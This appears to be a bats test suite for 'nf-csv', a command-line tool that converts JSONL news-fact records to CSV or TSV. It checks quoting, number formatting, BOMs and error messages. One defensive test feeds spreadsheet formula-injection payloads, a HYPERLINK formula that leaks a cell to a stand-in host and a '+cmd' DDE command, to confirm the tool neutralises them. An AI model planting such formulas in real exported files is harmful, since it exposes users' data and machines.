#!/usr/bin/env bats
# nf-csv: records to RFC 4180 CSV.

load common
setup() {
	common_setup
	T=$BATS_TEST_TMPDIR
}

@test "nf-csv: figure records get the figure columns (unit_text and per after unit), plain decimals, CRLF" {
	printf '%s\n' \
	  '{"doc":"a.txt","article":1,"title":"T","published":null,"para":2,"sent":1,"kind":"money","match":"10 billion yuan","value":10000000000,"value_max":null,"unit":"CNY","unit_text":"yuan","per":null,"qualifier":"gt","match_start":5,"match_end":20,"text":"More than 10 billion yuan, said \"they\"."}' \
	  '{"doc":"a.txt","article":1,"title":"T","published":null,"para":2,"sent":1,"kind":"money","match":"$1.47 billion","value":1.47e9,"value_max":null,"unit":"USD","unit_text":"$","per":"year","qualifier":null,"equiv_of":5,"match_start":22,"match_end":35,"text":"x"}' \
	  >"$BATS_TEST_TMPDIR/in.jsonl"
	run -0 nf-csv "$BATS_TEST_TMPDIR/in.jsonl"
	assert_output "$(printf '%s\r\n' \
	  'doc,article,title,published,para,sent,role,lang,kind,match,value,value_max,unit,unit_text,per,qualifier,equiv_of,match_start,match_end,note,text' \
	  'a.txt,1,T,,2,1,,,money,10 billion yuan,10000000000,,CNY,yuan,,gt,,5,20,,"More than 10 billion yuan, said ""they""."' \
	  'a.txt,1,T,,2,1,,,money,$1.47 billion,1470000000,,USD,$,year,,5,22,35,,x')"
}

@test "nf-csv: date records get the date columns, mod after value" {
	run -0 nf-csv --lf <<'IN'
{"doc":"a.txt","article":1,"kind":"date","match":"early 2026","value":"2026","mod":"START","from":"2026-01-01","to":"2026-04-30","anchor":null,"text":"x"}
{"doc":"a.txt","article":1,"kind":"date","match":"2025","value":"2025","from":"2025-01-01","to":"2025-12-31","anchor":null,"text":"y"}
IN
	assert_output "$(printf '%s\n' 'doc,article,title,published,para,sent,role,lang,kind,match,value,mod,from,to,anchor,match_start,match_end,note,text' \
	  'a.txt,1,,,,,,,date,early 2026,2026,START,2026-01-01,2026-04-30,,,,,x' \
	  'a.txt,1,,,,,,,date,2025,2025,,2025-01-01,2025-12-31,,,,,y')"
}

@test "nf-csv: -f picks and orders columns; --lf; reals print without exponent" {
	run -0 nf-csv --lf -f value,doc <<'IN'
{"doc":"b","value":128.99}
{"doc":"c","value":1e-6}
{"doc":"d","value":1e20}
{"value":-0.5,"doc":" lead"}
IN
	assert_output "$(printf '%s\n' 'value,doc' '128.99,b' '0.000001,c' '100000000000000000000,d' '-0.5," lead"')"
}

@test "nf-csv: unknown records get all their keys; -n drops the header; other delimiters quote" {
	run -0 nf-csv -n -d ';' --lf <<'IN'
{"x":"a;b","y":[1,2],"z":true}
IN
	assert_output '"a;b";[1,2];true'
}

@test "nf-csv: -d tab writes TSV: no quotes, TAB LF CR and backslash escaped, LF rows" {
	run -0 nf-csv -d tab <<'IN'
{"x":"a\tb","y":"two\nlines\r","z":"C:\\dir \"q\"","n":1.5}
IN
	assert_output "$(printf '%s\t%s\t%s\t%s\n' x y z n 'a\tb' 'two\nlines\r' 'C:\\dir "q"' 1.5)"
	[ "$(nf-csv -d tab <<<'{"x":"a\tb"}' | wc -l)" -eq 2 ]
}

@test "nf-csv: multi-line text stays in one quoted cell; Chinese passes through" {
	run -0 nf-csv --lf -f text <<'IN'
{"text":"杭州\n第二行"}
IN
	assert_output "$(printf 'text\n"杭州\n第二行"')"
}

@test "nf-csv: Miller reads -d tab output back to exactly the strings of the records" {
	command -v mlr >/dev/null || skip "Miller is not installed (apt-get install miller)"
	cat >"$T/in.jsonl" <<'IN'
{"x":"a\tb","y":"two\nlines\r\n","z":"C:\\dir\\ \"q\" \\t","w":"杭州, \"引号\"","e":""}
IN
	nf-csv -d tab --raw "$T/in.jsonl" >"$T/out.tsv"
	run -0 sh -c 'mlr --itsv --ojsonl cat "$1" | jq -cS .' _ "$T/out.tsv"
	assert_output "$(jq -cS . "$T/in.jsonl")"
}

@test "nf-csv: empty input still gets a header: -f, -t, or the figure columns" {
	run -0 nf-csv --lf </dev/null
	assert_output "doc,article,title,published,para,sent,role,lang,kind,match,value,value_max,unit,unit_text,per,qualifier,equiv_of,match_start,match_end,note,text"
	run -0 nf-csv --lf -t date </dev/null
	assert_output "doc,article,title,published,para,sent,role,lang,kind,match,value,mod,from,to,anchor,match_start,match_end,note,text"
	run -0 nf-csv --lf -f a,b </dev/null
	assert_output "a,b"
	run -0 nf-csv -n </dev/null
	assert_output ""
}

@test "nf-csv: numbers print as the shortest plain decimal that reads back exactly" {
	run -0 nf-csv --lf -n -f v <<'IN'
{"v":0.1}
{"v":33.33}
{"v":-3.5}
{"v":1.47e9}
{"v":1470000000}
{"v":1e23}
{"v":1.2345e21}
{"v":0.30000000000000004}
{"v":-0.0}
IN
	assert_output "$(printf '%s\n' 0.1 33.33 -3.5 1470000000 1470000000 100000000000000000000000 \
	    1234500000000000000000 0.30000000000000004 0)"
}

@test "nf-csv: text that a spreadsheet would run as a formula gets a leading apostrophe" {
	run -0 nf-csv --lf <<'IN'
{"title":"=HYPERLINK(\"http://x/?leak=\"&B2,\"click\")","text":"=1+1 is two","match":"-5°C","value":-3.5,"s":"-3.5","a":"@SUM(A1)","p":"+cmd|' /C calc'!A0","t":"\tx","r":"\rx","m":"-12%","ok":"a=b"}
IN
	assert_output "$(printf '%s\n' 'title,text,match,value,s,a,p,t,r,m,ok' \
	    "\"'=HYPERLINK(\"\"http://x/?leak=\"\"&B2,\"\"click\"\")\",'=1+1 is two,'-5°C,-3.5,-3.5,'@SUM(A1),'+cmd|' /C calc'!A0,'	x,\"'"$'\r'"x\",-12%,a=b")"
}

@test "nf-csv: --raw writes text exactly as the records hold it" {
	run -0 nf-csv --raw --lf -n <<'IN'
{"title":"=1+1","match":"-5°C","a":"@x"}
IN
	assert_output "=1+1,-5°C,@x"
}

@test "nf-csv: neutralised cells in TSV keep their escapes" {
	run -0 nf-csv -d tab -n <<'IN'
{"a":"=x\ty","b":"\tz"}
IN
	assert_output "$(printf '%s\t%s' "'=x\\ty" "'\\tz")"
}

@test "nf-csv: --quote-text quotes every text cell and leaves numbers bare" {
	run -0 nf-csv --quote-text --lf <<'IN'
{"match":"January 20","value":2025,"v":"2025-05","n":null,"e":"","f":"=1"}
IN
	assert_output "$(printf '%s\n' '"match","value","v","n","e","f"' '"January 20",2025,"2025-05",,"","'"'"'=1"')"
}

@test "nf-csv: --bom starts the output with a UTF-8 byte order mark" {
	run -0 nf-csv --bom --lf -f a <<<'{"a":1}'
	assert_output "$(printf '\xef\xbb\xbfa\n1')"
}

@test "nf-csv: --excel is a byte order mark and CRLF rows, even for TSV" {
	run -0 nf-csv --excel -f a <<<'{"a":"杭州"}'
	assert_output "$(printf '\xef\xbb\xbfa\r\n杭州\r')"
	run -0 nf-csv --excel -d tab -f a,b <<<'{"a":1,"b":2}'
	assert_output "$(printf '\xef\xbb\xbfa\tb\r\n1\t2\r')"
}

@test "nf-csv: a malformed line stops the run with FILE:LINE, rows before it stay" {
	printf '{"a":1}\n{"a":2,}\n{"a":3}\n' >"$BATS_TEST_TMPDIR/bad.jsonl"
	run -1 --separate-stderr nf-csv --lf "$BATS_TEST_TMPDIR/bad.jsonl"
	assert_output "$(printf 'a\n1')"
	[ "$stderr" = "nf-csv: $BATS_TEST_TMPDIR/bad.jsonl:2: invalid JSON: string or '}' expected near '}'" ]
}

@test "nf-csv: --skip-bad skips and counts malformed lines" {
	run -0 --separate-stderr nf-csv --lf --skip-bad <<'IN'
{"a":1}
[1,2]
{"a":3}
IN
	assert_output "$(printf 'a\n1\n3')"
	[ "$stderr" = "nf-csv: skipped 1 bad line" ]
}

@test "nf-csv: invalid UTF-8 inside a record is bad input" {
	printf '{"a":"\xff"}\n' >"$BATS_TEST_TMPDIR/bad.jsonl"
	run -1 --separate-stderr nf-csv "$BATS_TEST_TMPDIR/bad.jsonl"
	[ "$stderr" = "nf-csv: $BATS_TEST_TMPDIR/bad.jsonl:1: invalid JSON: unable to decode byte 0xff near '\"'" ]
}

@test "nf-csv: a missing file is reported, the others still read" {
	run -1 --separate-stderr nf-csv --lf - "$BATS_TEST_TMPDIR/nope" <<<'{"a":1}'
	assert_output "$(printf 'a\n1')"
	[ "$stderr" = "nf-csv: $BATS_TEST_TMPDIR/nope: No such file or directory" ]
}

@test "nf-csv: --help, --version, bad usage" {
	run -0 nf-csv --help
	assert_line --index 0 --partial "usage: nf-csv"
	run -0 nf-csv --version
	assert_output "nf-csv (newsfacts) 0.1.0"
	run -2 --separate-stderr nf-csv --frobnicate
	[ "$stderr" = "$(printf "nf-csv: unrecognized option '--frobnicate'\nTry 'nf-csv --help' for more information.")" ]
	run -2 --separate-stderr nf-csv -d ab
	[ "$stderr" = "$(printf "nf-csv: -d wants one byte other than a quote or newline, not 'ab'\nTry 'nf-csv --help' for more information.")" ]
	run -2 --separate-stderr nf-csv --lf --excel
	[ "$stderr" = "$(printf "nf-csv: --lf and --excel are alternatives: give one\nTry 'nf-csv --help' for more information.")" ]
	run -2 --separate-stderr nf-csv -d tab --quote-text
	[ "$stderr" = "$(printf "nf-csv: --quote-text is for CSV: TSV has no quotes\nTry 'nf-csv --help' for more information.")" ]
}

@test "nf-csv: a full disk is an error, not silent success" {
	[ -w /dev/full ] || skip "no /dev/full"
	run -1 --separate-stderr sh -c 'nf-csv -f a >/dev/full <<EOF
{"a":1}
EOF'
	[ "$stderr" = "nf-csv: write error: No space left on device" ]
}
